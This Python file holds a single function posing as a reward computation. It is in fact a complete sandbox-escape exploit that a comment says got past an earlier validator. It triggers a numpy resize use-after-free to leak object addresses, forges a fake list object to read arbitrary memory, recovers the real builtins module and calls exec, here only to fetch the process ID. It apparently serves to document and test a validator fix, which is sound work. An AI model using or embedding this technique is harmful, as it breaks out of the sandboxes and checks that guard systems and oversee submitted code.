# Use-after-free through ndarray.resize(refcheck=False), written as the attack that passed the
# old validation and ran arbitrary Python in the worker: growing `a` frees the buffer its
# view `v` still points at; an object array (dtype by inference, no `object` named) takes the
# freed memory, so `v` reads and writes raw object pointers. A fake list built in a bytes
# payload then reads any pointer: abs's module, the real builtins, and from there exec.
def compute_reward(agent_pos, goal_pos):
    n = 256
    a = np.zeros(n, dtype=np.int64)
    v = a[:]
    a.resize(1 << 20, refcheck=False)
    holder = np.full(n, None)

    def address(obj):
        holder[0] = obj
        return int(v[0])

    def fake_list(target):
        # PyListObject: refcount, type, size, items pointer, allocated; in a bytes payload
        # (32 bytes after the object's address).
        header = np.array([1 << 40, address(list), 1, target, 1], dtype=np.int64).tobytes()
        holder[2] = header
        v[1] = address(header) + 32
        return holder[1]

    builtins_module = fake_list(address(abs) + 24)[0]  # PyCFunctionObject.m_self
    seen = {}
    builtins_module.exec(
        "import os; seen['pid'] = os.getpid()",
        {"__builtins__": builtins_module, "seen": seen},
    )
    return np.abs(agent_pos - goal_pos).sum(axis=-1) * 0.0 + seen["pid"], {}
